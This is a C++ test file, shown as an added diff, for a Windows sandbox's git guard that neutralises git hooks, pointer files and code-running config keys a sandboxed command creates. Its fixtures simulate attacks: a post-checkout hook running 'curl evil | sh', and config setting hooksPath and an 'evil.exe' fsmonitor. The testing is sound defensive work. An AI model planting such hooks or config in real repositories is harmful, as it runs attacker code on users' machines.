@@ -1,0 +1,180 @@
+// The post-run git guard (plan/windows/git_guard.hpp) on the model volume: a commondir
+// or config.worktree the sandbox created in a protected gitdir (F2/F13 of the Windows
+// review: absent names carry no ACE) is renamed away after the run; names that were
+// there before, and a gitdir replaced by a link, are left alone.
+#include "plan/windows/git_guard.hpp"
+
+#include <gtest/gtest.h>
+
+#include <algorithm>
+
+#include "plan/windows/win_path.hpp"
+#include "win_fixture.hpp"
+
+namespace cordon::win {
+namespace {
+
+using test::Host;
+using test::kWs;
+
+std::string ws(const std::string& rel) {
+  return std::string(kWs) + "\\" + rel;
+}
+
+const GitWatch* watch_for(const WinPlan& plan, const std::string& gitdir) {
+  auto it = std::find_if(plan.git_watch.begin(), plan.git_watch.end(),
+                         [&](const GitWatch& w) { return same_path(w.gitdir, gitdir); });
+  return it == plan.git_watch.end() ? nullptr : &*it;
+}
+
+TEST(WinGitGuard, TheSandboxCanCreateCommondirSoItIsRenamedAwayAfterTheRun) {
+  Host h;
+  auto p = plan_windows(test::ws_policy(), h.host, test::test_caps(), test::with_audit());
+  ASSERT_TRUE(p) << p.error().message();
+  test::apply(*h.fs, *p);
+  TokenModel t = model_token(*p, h.host);
+  // The gap the guard closes: both names are absent, so no ACE can stop their creation
+  // (an empty commondir placeholder would break git), under either restricted scope.
+  for (auto scope : {RestrictedScope::AllModifying, RestrictedScope::GenericWrite}) {
+    EXPECT_TRUE(h.fs->can(t, Op::Create, ws(".git\\commondir"), scope));
+    EXPECT_TRUE(h.fs->can(t, Op::Create, ws(".git\\config.worktree"), scope));
+  }
+  const GitWatch* w = watch_for(*p, ws(".git"));
+  ASSERT_NE(w, nullptr) << "the workspace's .git must be watched";
+  EXPECT_TRUE(w->present.empty());
+
+  // The command writes them (case variants too: NTFS folds the names).
+  h.fs->add_file(ws(".git\\CommonDir"), {}, "C:\\Users\\alice\\outside\n");
+  h.fs->add_file(ws(".git\\config.worktree"), {}, "[core]\n\thooksPath = C:/x\n");
+  ModelTreeOps ops(*h.fs);
+  GitGuardResult r = remove_new_pointers(ops, *w, "t1");
+  EXPECT_TRUE(r.warnings.empty()) << r.warnings.front();
+  EXPECT_EQ(r.renamed.size(), 2u);
+  EXPECT_EQ(h.fs->stat(ws(".git\\commondir")).kind, FsEntry::Kind::Missing);
+  EXPECT_EQ(h.fs->stat(ws(".git\\config.worktree")).kind, FsEntry::Kind::Missing);
+  EXPECT_EQ(h.fs->stat(ws(".git\\CommonDir.cordon-removed-t1")).kind, FsEntry::Kind::File);
+  EXPECT_EQ(h.fs->stat(ws(".git\\config.worktree.cordon-removed-t1")).kind, FsEntry::Kind::File);
+  // Git's own files are untouched; a second pass finds nothing new.
+  EXPECT_EQ(h.fs->stat(ws(".git\\HEAD")).kind, FsEntry::Kind::File);
+  EXPECT_TRUE(remove_new_pointers(ops, *w, "t1").renamed.empty());
+}
+
+TEST(WinGitGuard, PointersThatExistedBeforeTheRunStay) {
+  Host h;
+  h.fs->add_file(ws(".git\\config.worktree"), {}, "[core]\n");
+  auto p = plan_windows(test::ws_policy(), h.host, test::test_caps(), test::with_audit());
+  ASSERT_TRUE(p) << p.error().message();
+  const GitWatch* w = watch_for(*p, ws(".git"));
+  ASSERT_NE(w, nullptr);
+  ASSERT_EQ(w->present, std::vector<std::string>{"config.worktree"});
+  h.fs->add_file(ws(".git\\commondir"), {}, "..\n");
+  ModelTreeOps ops(*h.fs);
+  GitGuardResult r = remove_new_pointers(ops, *w, "t2");
+  ASSERT_EQ(r.renamed.size(), 1u);
+  EXPECT_NE(r.renamed[0].find("commondir"), std::string::npos);
+  EXPECT_EQ(h.fs->stat(ws(".git\\config.worktree")).kind, FsEntry::Kind::File);
+}
+
+TEST(WinGitGuard, AGitDirReplacedByALinkIsReportedNeverEntered) {
+  Host h;
+  auto p = plan_windows(test::ws_policy(), h.host, test::test_caps(), test::with_audit());
+  ASSERT_TRUE(p) << p.error().message();
+  const GitWatch* w = watch_for(*p, ws(".git"));
+  ASSERT_NE(w, nullptr);
+  // Under the narrow restricted pass the pin does not hold: .git swapped for a link to a
+  // directory that has a commondir of its own (the user's other repository).
+  h.fs->mkdir("C:\\Users\\alice\\other\\.git");
+  h.fs->add_file("C:\\Users\\alice\\other\\.git\\commondir", {}, "x\n");
+  ASSERT_TRUE(h.fs->rename_entry(ws(".git"), ".git_old"));
+  h.fs->add_link(ws(".git"), "C:\\Users\\alice\\other\\.git");
+  ModelTreeOps ops(*h.fs);
+  GitGuardResult r = remove_new_pointers(ops, *w, "t3");
+  EXPECT_TRUE(r.renamed.empty());
+  ASSERT_EQ(r.warnings.size(), 1u);
+  EXPECT_NE(r.warnings[0].find("no longer a plain directory"), std::string::npos);
+  EXPECT_EQ(h.fs->stat("C:\\Users\\alice\\other\\.git\\commondir").kind, FsEntry::Kind::File);
+}
+
+TEST(WinGitGuard, OnlyGitDirsInsideAWritableRootAreWatchedAndNoneUnderGitReadOnly) {
+  Host h;
+  Policy ro = test::ws_policy();
+  ro.git = GitMode::ReadOnly;  // all of .git is denied: nothing can appear
+  auto p = plan_windows(ro, h.host, test::test_caps(), test::with_audit());
+  ASSERT_TRUE(p) << p.error().message();
+  EXPECT_TRUE(p->git_watch.empty());
+  Policy rw = test::ws_policy();
+  rw.git = GitMode::Writable;
+  auto q = plan_windows(rw, h.host, test::test_caps(), test::with_audit());
+  ASSERT_TRUE(q) << q.error().message();
+  EXPECT_TRUE(q->git_watch.empty());
+  auto r = plan_windows(test::ws_policy(), h.host, test::test_caps(), test::with_audit());
+  ASSERT_TRUE(r);
+  for (const auto& w : r->git_watch) EXPECT_TRUE(is_within(w.gitdir, kWs)) << w.gitdir;
+  EXPECT_NE(to_json(*r).dump().find("git_watch"), std::string::npos);
+}
+
+}  // namespace
+}  // namespace cordon::win
+
+namespace cordon::win {
+namespace {
+
+// F13: a repository the command creates in a root that had none (git init, git clone)
+// would run its hooks and code-running config the first time the user runs git there.
+TEST(WinGitGuard, ARepositoryCreatedInTheRunIsNeutralised) {
+  Host h;
+  const std::string root = test::kWsB;  // no .git yet
+  Policy policy = test::ws_policy(root);
+  auto p = plan_windows(policy, h.host, test::test_caps(), test::with_audit());
+  ASSERT_TRUE(p) << p.error().message();
+  ASSERT_EQ(p->new_repo_roots, std::vector<std::string>{root});
+  test::apply(*h.fs, *p);
+  // The gap: nothing stops the command from creating any of this (no .git, no ACE).
+  TokenModel t = model_token(*p, h.host);
+  EXPECT_TRUE(h.fs->can(t, Op::Mkdir, root + "\\.git", RestrictedScope::AllModifying));
+
+  h.fs->mkdir(root + "\\.git\\hooks");
+  h.fs->add_file(root + "\\.git\\hooks\\post-checkout", {}, "#!/bin/sh\ncurl evil | sh\n");
+  h.fs->add_file(root + "\\.git\\config", {}, "[core]\n\thooksPath = C:/x\n\tfsmonitor = evil.exe\n");
+  h.fs->add_file(root + "\\.git\\HEAD", {}, "ref: refs/heads/main\n");
+  h.fs->mkdir(root + "\\.git\\modules\\lib\\hooks");
+  h.fs->add_file(root + "\\.git\\commondir", {}, "C:/Users/alice/outside\n");
+  ModelTreeOps ops(*h.fs);
+  GitGuardResult r = neutralise_new_repository(ops, root, "t4");
+  EXPECT_TRUE(r.warnings.empty()) << r.warnings.front();
+  EXPECT_EQ(r.renamed.size(), 4u);
+  for (const char* gone : {"hooks", "config", "modules", "commondir"}) {
+    EXPECT_EQ(h.fs->stat(root + "\\.git\\" + gone).kind, FsEntry::Kind::Missing) << gone;
+    EXPECT_NE(h.fs->stat(root + "\\.git\\" + gone + ".cordon-removed-t4").kind, FsEntry::Kind::Missing)
+        << gone;
+  }
+  EXPECT_EQ(h.fs->stat(root + "\\.git\\HEAD").kind, FsEntry::Kind::File);
+  bool named = false;
+  for (const auto& line : r.renamed) named |= line.find("core.hookspath") != std::string::npos;
+  EXPECT_TRUE(named) << "the dropped keys are named";
+}
+
+TEST(WinGitGuard, AnInertConfigIsKeptAndALinkedGitIsRenamedAway) {
+  Host h;
+  const std::string root = test::kWsB;
+  h.fs->mkdir(root + "\\.git");
+  h.fs->add_file(root + "\\.git\\config", {},
+                 "[core]\n\trepositoryformatversion = 0\n\tbare = false\n"
+                 "[remote \"origin\"]\n\turl = https://example.com/x.git\n\tfetch = "
+                 "+refs/heads/*:refs/remotes/origin/*\n");
+  ModelTreeOps ops(*h.fs);
+  GitGuardResult r = neutralise_new_repository(ops, root, "t5");
+  EXPECT_TRUE(r.renamed.empty()) << r.renamed.front();
+  EXPECT_EQ(h.fs->stat(root + "\\.git\\config").kind, FsEntry::Kind::File);
+
+  Host g;
+  g.fs->add_link(root + "\\.git", test::kOutside);
+  ModelTreeOps gops(*g.fs);
+  GitGuardResult l = neutralise_new_repository(gops, root, "t6");
+  ASSERT_EQ(l.renamed.size(), 1u);
+  EXPECT_TRUE(g.fs->is_link(root + "\\.git.cordon-removed-t6"));
+  EXPECT_EQ(g.fs->stat(std::string(test::kOutside) + "\\secret.txt").kind, FsEntry::Kind::File);
+}
+
+}  // namespace
+}  // namespace cordon::win
